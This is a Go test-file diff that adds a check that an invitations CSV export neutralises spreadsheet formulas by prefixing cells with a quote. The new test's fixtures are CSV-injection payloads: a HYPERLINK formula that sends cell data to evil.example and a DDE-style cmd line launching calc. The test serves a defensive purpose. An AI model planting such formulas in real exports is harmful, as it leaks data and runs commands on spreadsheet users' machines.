@@ -2,10 +2,12 @@ package campaigns_test
 
 import (
 	"bytes"
+	"encoding/csv"
 	"encoding/json"
 	"io"
 	"net/http"
 	"net/http/httptest"
+	"slices"
 	"strings"
 	"sync/atomic"
 	"testing"
@@ -40,7 +42,7 @@ func TestLeadsWithoutAChatAreExportedAndPostedToTheSMSGateway(t *testing.T) {
 	}
 	lines := strings.Split(strings.TrimSpace(strings.TrimPrefix(csv.String(), "\ufeff")), "\n")
 	if len(lines) != 2 || lines[0] != "phone;company;contact_name;link;invited_at;followed_at" ||
-		!strings.HasPrefix(lines[1], "+79180000001;ООО Без чата;Ирина;https://t.me/dozvon_bank_bot?start=") {
+		!strings.HasPrefix(lines[1], "'+79180000001;ООО Без чата;Ирина;https://t.me/dozvon_bank_bot?start=") {
 		t.Fatalf("csv:\n%s", csv.String())
 	}
 
@@ -54,5 +56,35 @@ func TestLeadsWithoutAChatAreExportedAndPostedToTheSMSGateway(t *testing.T) {
 	}
 	if n, _ := b.store.PostInvitations(b.ctx, c, gateway.Client()); n != 0 {
 		t.Fatal("posted the same invitation twice")
+	}
+}
+
+// Company names come from the bank's files and API pushes: the SMS team opens the export in Excel, where a name
+// such as =HYPERLINK(...) must stay a name.
+func TestInvitationsExportNeutralisesSpreadsheetFormulas(t *testing.T) {
+	b := newBank(t)
+	b.missedCall(clientSpec{company: `=HYPERLINK("https://evil.example/?leak="&A1,"Ромашка")`, phone: "+79180000002"})
+	b.missedCall(clientSpec{company: "@SUM(1+1)*cmd|' /C calc'!A0", phone: "+79180000003"})
+	b.derive()
+	c := b.campaign(campaigns.MissedCall, func(c *campaigns.Campaign) {})
+	b.store.BotUsername = "dozvon_bank_bot"
+	if r := b.run(c); r.Invited != 2 {
+		t.Fatalf("run %+v", r)
+	}
+	var file bytes.Buffer
+	if err := b.store.WriteInvitationsCSV(b.ctx, c.ID, &file); err != nil {
+		t.Fatal(err)
+	}
+	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(file.String(), "\ufeff")))
+	r.Comma = ';'
+	rows, err := r.ReadAll()
+	if err != nil || len(rows) != 3 {
+		t.Fatalf("%d rows (%v):\n%s", len(rows), err, file.String())
+	}
+	companies := []string{rows[1][1], rows[2][1]}
+	slices.Sort(companies)
+	want := []string{`'=HYPERLINK("https://evil.example/?leak="&A1,"Ромашка")`, `'@SUM(1+1)*cmd|' /C calc'!A0`}
+	if !slices.Equal(companies, want) {
+		t.Fatalf("companies in the file: %q, want %q", companies, want)
 	}
 }
